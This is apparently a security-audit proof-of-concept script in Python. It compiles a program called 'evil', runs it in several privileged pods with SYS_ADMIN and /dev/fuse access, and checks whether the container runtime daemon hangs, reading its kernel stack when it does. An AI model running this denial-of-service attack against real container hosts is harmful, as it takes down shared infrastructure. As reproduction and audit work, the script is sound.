from harness import *
import grpc
subprocess.run(["gcc", "-O2", "-static", "-pthread", "-o", "/tmp/evil", "/nodens/tests/audit/evil.c"], check=True)
base = layer_tar(base_entries() + [("evil", "f", "/tmp/evil", 0o755)])
with node() as (rt, client, pods):
    load(rt, "poc.example/base:1", [base])
    hung = False
    for i in range(12):
        pod = pods.run(userns=True, name=f"p{i}")
        one = pod.container(["/evil"], name="e", security={"capabilities": pods.pb.Capability(add_capabilities=["SYS_ADMIN"])},
                            devices=[pods.pb.Device(host_path="/dev/fuse", container_path="/dev/fuse", permissions="rwm")])
        time.sleep(0.3)
        try:
            client.runtime.Version(pods.pb.VersionRequest(), timeout=5)
        except grpc.RpcError as e:
            hung = True
            pid = rt.process.pid
            print(f"attempt {i}: the daemon does not answer any more: {e.code().name}; its stack:", open(f"/proc/{pid}/stack").read().replace("\n", " | ")[:500], "wchan", open(f"/proc/{pid}/wchan").read())
            time.sleep(20)
            try: client.runtime.Version(pods.pb.VersionRequest(), timeout=5); print("it is back")
            except grpc.RpcError as e: print("20 s later:", e.code().name)
            break
        print(i, "answers;", one.log()[:3])
    if hung:
        subprocess.run("for p in $(pgrep -x evil); do kill -9 $p; done", shell=True)
        time.sleep(1)
        try: client.runtime.Version(pods.pb.VersionRequest(), timeout=5); print("after the attacker was killed by hand it answers again")
        except grpc.RpcError as e: print("still:", e.code().name)
